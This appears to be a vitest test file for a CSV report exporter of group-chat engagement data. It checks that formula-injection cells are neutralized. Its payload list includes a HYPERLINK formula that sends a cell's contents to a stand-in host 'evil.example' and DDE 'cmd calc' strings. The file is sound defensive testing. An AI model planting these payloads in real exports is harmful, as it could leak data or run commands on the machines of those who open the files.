import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { EngagementReport } from '../../../../lake/index.js';
import { writeReportCsv } from '../../../../cli/report/write-csv.js';
import { emptyReport } from '../../../helpers/engagement-report.js';

const G1 = '120363000000000201@g.us';

/** Subjects and member ids a group admin or a member-link import controls (ADR 0014). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

function reportWith(subjects: readonly string[]): EngagementReport {
  return emptyReport({
    from: '2024-03-01',
    to: '2024-03-31',
    totals: { messages: 1, activeMembers: 1, groups: subjects.length, reactions: 0, joins: 0, leaves: 0 },
    groups: subjects.map((subject, index) => ({
      groupJid: `12036300000000030${String(index)}@g.us`,
      subject,
      messages: -1,
      activeMembers: 0,
    })),
    topMembers: subjects.map((memberId) => ({
      participantId: '100000000000011@lid',
      memberId,
      displayName: memberId,
      displayNameIsPhone: false,
      messages: 1,
      replies: 0,
      reactionsGiven: 0,
    })),
    lurkers: [{ groupJid: G1, members: 2, lurkers: 1 }],
  });
}

/** The cells of a CSV line as a spreadsheet splits them (RFC 4180 quoting). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  const pattern = /("(?:[^"]|"")*"|[^,]*)(,|$)/gy;
  for (const match of line.matchAll(pattern)) {
    const raw = match[1] ?? '';
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (match[2] === '') break;
  }
  return cells;
}

describe('writeReportCsv', () => {
  let dir = '';
  afterEach(() => {
    rmSync(dir, { recursive: true, force: true });
  });

  it('writes a cell starting with =, +, -, @, tab or CR as quoted text behind a single quote', async () => {
    dir = mkdtempSync(join(tmpdir(), 'wa-lake-csv-'));
    await writeReportCsv(reportWith(PAYLOADS), dir);

    const groups = readFileSync(join(dir, 'groups.csv'), 'utf8');
    const top = readFileSync(join(dir, 'top-members.csv'), 'utf8');
    const memberCells = top
      .split('\r\n')
      .slice(1, 1 + PAYLOADS.length)
      .map((line) => cellsOf(line).slice(1, 3));
    // The member id and the push name (a display name the member chose) are both neutralized.
    expect(memberCells).toEqual(PAYLOADS.map((payload) => [`'${payload}`, `'${payload}`]));
    const subjectCells = groups
      .split('\r\n')
      .slice(1, 1 + PAYLOADS.length)
      .map((line) => cellsOf(line)[1]);
    expect(subjectCells).toEqual(PAYLOADS.map((payload) => `'${payload}`));
  });

  it('keeps numbers (a negative one too), plain text and RFC 4180 quoting as before', async () => {
    dir = mkdtempSync(join(tmpdir(), 'wa-lake-csv-'));
    await writeReportCsv(reportWith(['Book club, São Paulo', 'say "hi"']), dir);

    const groups = readFileSync(join(dir, 'groups.csv'), 'utf8').split('\r\n');
    expect(groups[0]).toBe('groupJid,subject,messages,activeMembers');
    expect(groups[1]).toBe('120363000000000300@g.us,"Book club, São Paulo",-1,0');
    expect(groups[2]).toBe('120363000000000301@g.us,"say ""hi""",-1,0');
    expect(readFileSync(join(dir, 'lurkers.csv'), 'utf8')).toBe(`groupJid,members,lurkers\r\n${G1},2,1\r\n`);
  });

  it('writes each total beside the previous period, the levels, the newcomer funnel and the hours (ADR 0025)', async () => {
    dir = mkdtempSync(join(tmpdir(), 'wa-lake-csv-'));
    await writeReportCsv(
      {
        ...reportWith([]),
        previousPeriod: {
          from: '2024-01-31',
          to: '2024-02-29',
          totals: { messages: 4, activeMembers: 1, groups: 0, reactions: 0, joins: 0, leaves: 0 },
        },
        totalsComparison: [{ metric: 'messages', current: 1, previous: 4, change: -3, changePercent: -75 }],
        newcomerFunnel: [
          {
            cohortWeek: '2024-03-25',
            joined: 2,
            firstMessage: 1,
            answeredWithin24h: 1,
            activeWeek4: null,
            activeWeek12: null,
          },
        ],
        activityHours: [{ weekday: 1, hour: 9, messages: 3 }],
      },
      dir
    );
    expect(readFileSync(join(dir, 'totals-comparison.csv'), 'utf8')).toBe(
      'metric,current,previous,change,changePercent,previousFrom,previousTo\r\nmessages,1,4,-3,-75,2024-01-31,2024-02-29\r\n'
    );
    expect(readFileSync(join(dir, 'newcomer-funnel.csv'), 'utf8')).toBe(
      'cohortWeek,joined,firstMessage,answeredWithin24h,activeWeek4,activeWeek12\r\n2024-03-25,2,1,1,,\r\n'
    );
    expect(readFileSync(join(dir, 'activity-hours.csv'), 'utf8')).toBe('weekday,hour,messages\r\n1,9,3\r\n');
    expect(readFileSync(join(dir, 'levels.csv'), 'utf8')).toBe(
      'month,advocates,contributors,participants,explorers,movedUp,held,movedDown,new,gone\r\n'
    );
  });
});
